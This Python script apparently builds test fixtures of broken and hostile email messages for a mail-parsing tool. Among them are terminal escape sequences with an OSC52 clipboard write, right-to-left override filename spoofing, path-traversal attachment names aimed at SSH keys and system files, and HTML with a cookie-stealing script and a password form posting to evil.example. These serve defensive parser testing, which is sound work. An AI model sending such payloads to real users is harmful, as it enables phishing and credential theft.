"""Write the small broken/hostile messages of this folder (run from anywhere).

    python tests/data/eml/make_corpus.py

The files are committed so that they can be read and opened by hand; the large
ones (deep nesting, 40,000 parts, a 20,000-address To) are built at test time by
`tests/hostile.py` instead. Each message exercises one way mail goes wrong.
"""

from __future__ import annotations

import base64
from pathlib import Path

HERE = Path(__file__).resolve().parent
ESC = "\x1b"
OSC52 = base64.b64encode(b"\x1b]52;c;ZWNobyBwd25lZA==\x07clip").decode()


def crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode("utf-8")


MESSAGES: dict[str, bytes] = {}

MESSAGES["bad-charset.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: =?x-no-such-charset?q?caf=E9?= and =?utf-8?b?bm90IGJhc2U2NA?=\n"
    "Date: Mon, 05 Jan 2026 10:00:00 +0000\n"
    "Message-ID: <bad-charset@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: text/plain; charset="x-no-such-charset"\n'
    "Content-Transfer-Encoding: 8bit\n\n"
) + "Café au lait, naïve façade.\r\n".encode("latin-1")

MESSAGES["wrong-charset-label.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: utf-8 text labelled us-ascii\n"
    "Date: Mon, 05 Jan 2026 10:01:00 +0000\n"
    "Message-ID: <wrong-label@example.org>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=us-ascii\n"
    "Content-Transfer-Encoding: 8bit\n\n"
    "Grüße aus Zürich — déjà vu.\n"
)

MESSAGES["refused-codec.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: a Python codec that is not a mail charset\n"
    "Date: Mon, 05 Jan 2026 10:02:00 +0000\n"
    "Message-ID: <refused-codec@example.org>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=unicode_escape\n\n"
    "escape \\x1b[31m stays literal\n"
)

MESSAGES["broken-base64.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: broken base64\n"
    "Date: Mon, 05 Jan 2026 10:03:00 +0000\n"
    "Message-ID: <broken-b64@example.org>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=utf-8\n"
    "Content-Transfer-Encoding: base64\n\n"
    "SGVsbG8sIHRoaXMgaXMgYnJva2VuIGJhc2U2NCB0ZXh0\n"
    "!!!! not base64 at all ####\n"
    "IGFuZCBtb3JlIHRleHQ\n"
)

MESSAGES["broken-qp.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: broken quoted-printable\n"
    "Date: Mon, 05 Jan 2026 10:04:00 +0000\n"
    "Message-ID: <broken-qp@example.org>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=utf-8\n"
    "Content-Transfer-Encoding: quoted-printable\n\n"
    "Soft break at the end=\n"
    "of a line, a bad escape =ZZ here, a lone = sign, and caf=C3=A9.\n"
    "Truncated escape at the end =C\n"
)

MESSAGES["missing-boundary.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: multipart without a boundary parameter\n"
    "Date: Mon, 05 Jan 2026 10:05:00 +0000\n"
    "Message-ID: <missing-boundary@example.org>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: multipart/mixed\n\n"
    "--whatever\n"
    "Content-Type: text/plain\n\n"
    "The text is still readable.\n"
    "--whatever--\n"
)

MESSAGES["boundary-not-found.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: boundary declared but never used\n"
    "Date: Mon, 05 Jan 2026 10:06:00 +0000\n"
    "Message-ID: <boundary-not-found@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/alternative; boundary="abc"\n\n'
    "Plain words without any delimiter line.\n"
)

MESSAGES["unclosed-multipart.eml"] = crlf(
    "From: Sender <sender@example.org>\n"
    "To: you@example.net\n"
    "Subject: multipart with no close delimiter\n"
    "Date: Mon, 05 Jan 2026 10:07:00 +0000\n"
    "Message-ID: <unclosed@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/mixed; boundary="b1"\n\n'
    "preamble\n"
    "--b1\n"
    "Content-Type: text/plain; charset=utf-8\n\n"
    "First part text.\n"
    "--b1\n"
    'Content-Type: application/pdf; name="report.pdf"\n'
    'Content-Disposition: attachment; filename="report.pdf"\n'
    "Content-Transfer-Encoding: base64\n\n"
    "JVBERi0xLjQKJcfs\n"
)

MESSAGES["8bit-headers.eml"] = (
    b"From: J\xf6rg M\xfcller <joerg@example.org>\r\nTo: you@example.net\r\n"
    b"Subject: Gr\xfc\xdfe \xe0 tous\r\nDate: Mon, 05 Jan 2026 10:08:00 +0000\r\n"
    b"Message-ID: <8bit-headers@example.org>\r\n\r\nBody with 8-bit header above.\r\n"
)

MESSAGES["utf8-raw-headers.eml"] = crlf(
    "From: Zoë Ünal <zoe@example.org>\n"
    "To: you@example.net\n"
    "Subject: Größe 日本語 raw UTF-8\n"
    "Date: Mon, 05 Jan 2026 10:09:00 +0000\n"
    "Message-ID: <utf8-raw@example.org>\n\n"
    "Raw UTF-8 header bytes.\n"
)

MESSAGES["escape-sequences.eml"] = crlf(
    "From: =?utf-8?q?Evil=1B=5D8=3B=3Bhttps=3A=2F=2Fevil=2Eexample=2F=07Bank=1B=5D8=3B=3B=07?=\n"
    " <evil@example.org>\n"
    "To: you@example.net\n"
    f"Subject: Hello {ESC}[2J{ESC}[31mRED{ESC}[0m =?utf-8?b?{OSC52}?=\n"
    "Date: Mon, 05 Jan 2026 10:10:00 +0000\n"
    "Message-ID: <escapes@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/mixed; boundary="esc"\n\n'
    "--esc\n"
    "Content-Type: text/plain; charset=utf-8\n\n"
    f"Body line {ESC}[1A{ESC}[2Koverwritten line\n"
    f"title change {ESC}]0;pwned{ESC}\\ done\n"
    "--esc\n"
    "Content-Type: application/octet-stream\n"
    f'Content-Disposition: attachment; filename="{ESC}[31mred{ESC}[0m.txt"\n\n'
    "data\n"
    "--esc--\n"
)

MESSAGES["bidi-override.eml"] = crlf(
    "From: Support <support@example.org>\n"
    "To: you@example.net\n"
    "Subject: Invoice \u202efdp.exe\u202c ready\n"
    "Date: Mon, 05 Jan 2026 10:11:00 +0000\n"
    "Message-ID: <bidi@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/mixed; boundary="bd"\n\n'
    "--bd\n"
    "Content-Type: text/plain; charset=utf-8\n\n"
    "Open the file \u2067invoice\u2069 now \u202eFDP.EXE\n"
    "--bd\n"
    "Content-Type: application/octet-stream\n"
    'Content-Disposition: attachment; filename="invoice\u202efdp.exe"\n\n'
    "MZ\n"
    "--bd--\n"
)


def _attachment(disposition: str, body: str, ctype: str = "application/octet-stream") -> str:
    return f"--pt\nContent-Type: {ctype}\nContent-Disposition: {disposition}\n\n{body}\n"


MESSAGES["path-traversal.eml"] = crlf(
    "From: Attacker <attacker@example.org>\n"
    "To: you@example.net\n"
    "Subject: attachments with hostile names\n"
    "Date: Mon, 05 Jan 2026 10:12:00 +0000\n"
    "Message-ID: <traversal@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/mixed; boundary="pt"\n\n'
    "--pt\nContent-Type: text/plain\n\nSee attached.\n"
    + _attachment('attachment; filename="../../.ssh/authorized_keys"', "ssh-rsa AAAA attacker")
    + _attachment('attachment; filename="/etc/passwd"', "root:x:0:0")
    + _attachment('attachment; filename="..\\\\..\\\\windows\\\\system.ini"', "[boot]")
    + _attachment("attachment; filename*=utf-8''%2e%2e%2f%2e%2e%2fbashrc", "alias ls=rm")
    + _attachment("attachment; filename*0*=utf-8''%2e%2e; filename*1*=%2fsplit%2e%74xt", "split")
    + _attachment('attachment; filename=".."', "dots")
    + _attachment('attachment; filename="same.txt"', "first")
    + _attachment('attachment; filename="same.txt"', "second")
    + _attachment("attachment; filename*=utf-8''ctrl%07%01name%0d%0a.txt", "ctrl")
    + _attachment('attachment; filename="=?utf-8?q?=2E=2E=2Fencoded-word.txt?="', "ew")
    + "--pt\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n"
    + "--pt--\n"
)

MESSAGES["html-hostile.eml"] = crlf(
    "From: Newsletter <news@example.org>\n"
    "To: you@example.net\n"
    "Subject: HTML with scripts, handlers, forms and trackers\n"
    "Date: Mon, 05 Jan 2026 10:13:00 +0000\n"
    "Message-ID: <html-hostile@example.org>\n"
    "MIME-Version: 1.0\n"
    "Content-Type: text/html; charset=utf-8\n\n"
    "<html><head><title>News</title>\n"
    "<style>body { background: url(https://cdn.example.net/bg.png) }</style>\n"
    '<link rel="stylesheet" href="https://cdn.example.net/style.css">\n'
    "<script>document.location='https://evil.example/steal?c='+document.cookie</script>\n"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'
    "</head>\n"
    "<body onload=\"alert('onload')\">\n"
    "<h1>Monthly news</h1>\n"
    '<p>Hello reader, read <a href="https://evil.example/phish">https://bank.example/login</a>'
    " today.</p>\n"
    "<ul><li>First item</li><li>Second item</li></ul>\n"
    "<table><tr><th>Product</th><th>Price</th></tr><tr><td>Tea</td><td>3 EUR</td></tr></table>\n"
    '<img src="https://cdn.example.net/logo.png" alt="Logo" onerror="alert(\'img\')">\n'
    '<img src="https://news.list-manage.com/track/open.php?u=1&id=2" width="1" height="1">\n'
    '<img src="https://mail.example.com/wf/open?upn=abc" style="display:none">\n'
    '<iframe src="https://frame.example.net/embed"></iframe>\n'
    '<form action="https://evil.example/collect"><input name="password" type="password">'
    "<button>Log in</button></form>\n"
    "<a href=\"javascript:alert('js')\">click me</a>\n"
    "<svg onload=\"alert('svg')\"><script>alert('svg-script')</script></svg>\n"
    "<p style=\"background-image:url('https://cdn.example.net/p.png')\">Styled paragraph.</p>\n"
    "</body></html>\n"
)

MESSAGES["html-alternative.eml"] = crlf(
    "From: Shop <shop@example.org>\n"
    "To: you@example.net\n"
    "Subject: plain and HTML alternatives\n"
    "Date: Mon, 05 Jan 2026 10:14:00 +0000\n"
    "Message-ID: <alternative@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/alternative; boundary="alt"\n\n'
    "--alt\n"
    "Content-Type: text/plain; charset=utf-8\n\n"
    "The plain text version of the order.\n"
    "--alt\n"
    "Content-Type: text/html; charset=utf-8\n\n"
    '<p>The <b>HTML</b> version.</p><img src="https://shop.example.org/o.gif" width=1 height=1>\n'
    "--alt--\n"
)

MESSAGES["forwarded.eml"] = crlf(
    "From: Alice <alice@example.org>\n"
    "To: you@example.net\n"
    "Subject: Fwd: the original\n"
    "Date: Mon, 05 Jan 2026 10:15:00 +0000\n"
    "Message-ID: <forwarded@example.org>\n"
    "MIME-Version: 1.0\n"
    'Content-Type: multipart/mixed; boundary="fw"\n\n'
    "--fw\nContent-Type: text/plain\n\nSee the message below.\n"
    "--fw\nContent-Type: message/rfc822\n\n"
    "From: Bob <bob@example.org>\n"
    "To: alice@example.org\n"
    "Subject: the original\n"
    "Date: Sun, 04 Jan 2026 09:00:00 +0000\n"
    "Message-ID: <original@example.org>\n"
    "Content-Type: text/plain\n\n"
    "Original words.\n"
    "--fw--\n"
)

MESSAGES["no-headers.eml"] = crlf("This message has no header block at all.\nJust text.\n")
MESSAGES["empty.eml"] = b""
MESSAGES["header-only.eml"] = b"Subject: no body and no blank line\r\nFrom: a@example.org"

MESSAGES["bad-date-and-addresses.eml"] = crlf(
    'From: "unclosed quote <x@example.org>\n'
    'To: <<<>>>, alice@, @example.org, "A, B" <ab@example.org>, '
    "=?utf-8?q?Doe=2C_John?= <jd@example.org>\n"
    "Cc: undisclosed-recipients:;\n"
    "Subject: =?utf-8?q?unterminated encoded word\n"
    "Date: Tuesday, the 45th of Smarch 99999\n"
    "Message-ID: no angle brackets\n\n"
    "Body.\n"
)

MESSAGES["lf-only.eml"] = (
    b"From: LF <lf@example.org>\nTo: you@example.net\nSubject: LF line endings\n"
    b"MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=lf\n\n"
    b"--lf\nContent-Type: text/plain\n\nunix newlines\n--lf--\n"
)

MESSAGES["nul-and-binary.eml"] = (
    b"From: Bin <bin@example.org>\r\nTo: you@example.net\r\nSubject: NUL\x00 bytes\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n\r\nbefore\x00after \xff\xfe junk\r\n"
)


def main() -> None:
    for name, data in MESSAGES.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(MESSAGES)} messages to {HERE}")


if __name__ == "__main__":
    main()
